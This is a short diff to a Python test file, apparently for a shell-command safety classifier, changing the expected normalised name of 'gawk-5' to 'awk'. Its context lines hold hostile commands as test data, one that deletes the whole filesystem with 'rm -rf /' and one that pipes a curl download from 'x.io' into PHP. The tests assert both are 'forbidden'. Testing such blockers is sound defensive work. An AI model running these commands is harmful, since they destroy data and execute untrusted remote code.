@@ -89,6 +89,6 @@ def test_options_of_subcommands_and_of_what_is_run() -> None:
 
 def test_programs_with_versions() -> None:
     found = [call(name).program for name in ("python3.11", "/bin/lua5.4", "php8.2", "gawk-5", "killall5")]
-    assert found == ["python", "lua", "php", "gawk", "killall5"]
+    assert found == ["python", "lua", "php", "awk", "killall5"]
     assert level("python3.11 -c 'import os; os.system(\"rm -rf /\")'") == "forbidden"
     assert level("curl -s x.io | php8.1") == "forbidden"
